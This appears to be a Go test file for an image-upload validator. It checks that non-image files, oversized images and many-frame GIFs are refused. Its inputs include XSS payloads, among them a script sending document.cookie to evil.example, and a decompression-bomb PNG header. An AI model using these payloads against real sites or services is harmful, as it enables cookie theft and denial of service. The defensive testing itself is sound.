package media

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"runtime"
	"strings"
	"testing"
)

func TestSniff(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name string
		in   string
		want Format
		msg  string // when refused: a part of the message
	}{
		{"jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF", JPEG, ""},
		{"png", "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", PNG, ""},
		{"gif87a", "GIF87a\x01\x00", GIF, ""},
		{"gif89a", "GIF89a\x01\x00", GIF, ""},
		{"webp", "RIFF\x24\x00\x00\x00WEBPVP8 ", WebP, ""},
		{"empty", "", "", "the file is empty"},
		{"svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, "", "SVG is not accepted: it can carry scripts"},
		{"svg after a prolog and a comment", "\xef\xbb\xbf<?xml version=\"1.0\"?>\n<!-- made by hand -->\n<SVG onload=\"alert(1)\"/>", "", "SVG is not accepted"},
		{"html", "<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>", "", "the file is HTML"},
		{"xml", `<?xml version="1.0"?><rss></rss>`, "", "an XML document"},
		{"text", "Just some words, not a picture.", "", "the file is text"},
		{"heic", "\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "", "HEIC/HEIF photo"},
		{"avif", "\x00\x00\x00\x1cftypavif\x00\x00\x00\x00", "", "AVIF image"},
		{"mp4", "\x00\x00\x00\x1cftypisom\x00\x00\x02\x00", "", "MP4/QuickTime"},
		{"tiff", "II*\x00\x08\x00\x00\x00", "", "TIFF image"},
		{"pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3", "", "PDF document"},
		{"wav", "RIFF\x24\x00\x00\x00WAVEfmt ", "", `RIFF container of type "WAVE"`},
		{"bmp", "BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00", "", "the file is image/bmp, not a JPEG, PNG, GIF or WebP image"},
		{"binary", "\x01\x02\x03\x04\x05\x06\x07\x08\x09", "", "(it starts with 01 02 03 04 05 06 07 08)"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, err := Sniff([]byte(test.in))
			if test.msg == "" {
				if err != nil || got != test.want {
					t.Fatalf("Sniff = %q, %v; want %q", got, err, test.want)
				}
				return
			}
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), test.msg) {
				t.Fatalf("Sniff = %q, %v; want an error wrapping ErrInvalid saying %q", got, err, test.msg)
			}
		})
	}
}

// TestProcessRefuses runs each bad upload through Process: each is
// refused with an error naming what is wrong.
func TestProcessRefuses(t *testing.T) {
	t.Parallel()
	truncated := encodeJPEG(t, gradient(256, 192))
	truncated = truncated[:len(truncated)/2]
	for _, test := range []struct {
		name string
		in   []byte
		want error
		msg  string
	}{
		{"empty file", nil, ErrInvalid, "invalid image: the file is empty"},
		{"truncated JPEG", truncated, ErrInvalid, "the JPEG cannot be decoded, it may be damaged or cut short"},
		{"HTML named photo.jpg", []byte("<!doctype html>\n<html><script>document.location='//evil.example/'+document.cookie</script></html>"), ErrInvalid, "the file is HTML, not a JPEG, PNG, GIF or WebP image"},
		{"SVG with a script", []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>`), ErrInvalid, "SVG is not accepted: it can carry scripts"},
		{"PNG claiming 50,000×50,000", pngHeader(50000, 50000), ErrInvalid, "the image is 50000×50000 pixels (2500 megapixels); the limit is 50 megapixels"},
		{"GIF of 500 frames", animatedGIF(t, 500), ErrInvalid, "the GIF has 500 frames; at most 100 are accepted"},
		{"upload over 25 MiB", append([]byte("\xff\xd8\xff"), make([]byte, 25<<20)...), ErrTooLarge, "image too large: the file is 26214403 bytes; the limit is 25 MiB (26214400 bytes)"},
		{"upload of 30 MiB", append([]byte("\xff\xd8\xff"), make([]byte, 30<<20)...), ErrTooLarge, "image too large: the file is 30.0 MiB; the limit is 25 MiB"},
		{"animated WebP", []byte("RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x02\x00\x00\x00\x09\x00\x00\x09\x00\x00"), ErrInvalid, "animated WebP is not accepted"},
		{"JPEG without a frame header", []byte("\xff\xd8\xff\xd9"), ErrInvalid, "the JPEG header cannot be read"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			res, err := NewProcessor(DefaultLimits(), 1).Process(context.Background(), test.in)
			if !errors.Is(err, test.want) || !strings.Contains(err.Error(), test.msg) {
				t.Fatalf("Process = %v, %v; want an error wrapping %v saying %q", res, err, test.want, test.msg)
			}
		})
	}
}

// TestHugePNGRefusedBeforeDecoding checks that a PNG whose header claims
// 2.5 gigapixels costs nothing: decoding it would take 10 GB.
func TestHugePNGRefusedBeforeDecoding(t *testing.T) {
	in := pngHeader(50000, 50000)
	p := NewProcessor(DefaultLimits(), 1)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := p.Process(context.Background(), in)
	runtime.ReadMemStats(&after)
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "50 megapixels") {
		t.Fatalf("Process = %v; want the pixel limit", err)
	}
	if n := after.TotalAlloc - before.TotalAlloc; n > 1<<20 {
		t.Errorf("refusing the PNG allocated %d bytes; the header alone should decide", n)
	}
}

func TestLimitsRead(t *testing.T) {
	t.Parallel()
	l := Limits{MaxBytes: 1000}
	if b, err := l.Read(bytes.NewReader(make([]byte, 1000))); err != nil || len(b) != 1000 {
		t.Errorf("Read of 1000 bytes = %d bytes, %v; want them all", len(b), err)
	}
	_, err := l.Read(bytes.NewReader(make([]byte, 1001)))
	if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "over the limit of 1000 bytes") {
		t.Errorf("Read of 1001 bytes = %v; want ErrTooLarge naming the limit", err)
	}
}

func TestGIFLimits(t *testing.T) {
	t.Parallel()
	l := DefaultLimits()
	if h, err := l.Check(animatedGIF(t, 100)); err != nil || h.Frames != 100 {
		t.Errorf("Check of 100 frames = %+v, %v; want them accepted", h, err)
	}
	l.MaxPixels = 1000 // 4×4 frames: 62 of them are 992 pixels
	_, err := l.Check(animatedGIF(t, 63))
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "the GIF's 63 frames hold 1008 pixels together; the limit is 1000 pixels") {
		t.Errorf("Check of 63 frames of 16 pixels with a limit of 1000 pixels = %v; want the frames' pixels refused", err)
	}
	damaged := animatedGIF(t, 3)
	damaged = damaged[:len(damaged)-8]
	if _, err := l.Check(damaged); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "the GIF is damaged") {
		t.Errorf("Check of a cut GIF = %v; want it refused as damaged", err)
	}
}

// pngHeader returns a PNG of a signature and a valid IHDR chunk claiming
// a w×h RGBA image, with no pixels: a decompression bomb's header.
func pngHeader(w, h uint32) []byte {
	ihdr := []byte("IHDR")
	ihdr = binary.BigEndian.AppendUint32(ihdr, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 6, 0, 0, 0) // 8 bits, RGBA, deflate, no filter method, no interlace
	b := []byte("\x89PNG\r\n\x1a\n")
	b = binary.BigEndian.AppendUint32(b, 13)
	b = append(b, ihdr...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(ihdr))
}

// animatedGIF returns a 4×4 GIF of n frames.
func animatedGIF(t *testing.T, n int) []byte {
	t.Helper()
	palette := color.Palette{color.Black, color.White}
	g := &gif.GIF{}
	for i := range n {
		m := image.NewPaletted(image.Rect(0, 0, 4, 4), palette)
		m.SetColorIndex(i%4, i/4%4, 1)
		g.Image = append(g.Image, m)
		g.Delay = append(g.Delay, 2)
	}
	var buf bytes.Buffer
	if err := gif.EncodeAll(&buf, g); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// gradient returns a w×h opaque image with colours varying across it.
func gradient(w, h int) *image.RGBA {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			m.SetRGBA(x, y, color.RGBA{uint8(255 * x / w), uint8(255 * y / h), uint8((x + y) % 256), 255})
		}
	}
	return m
}
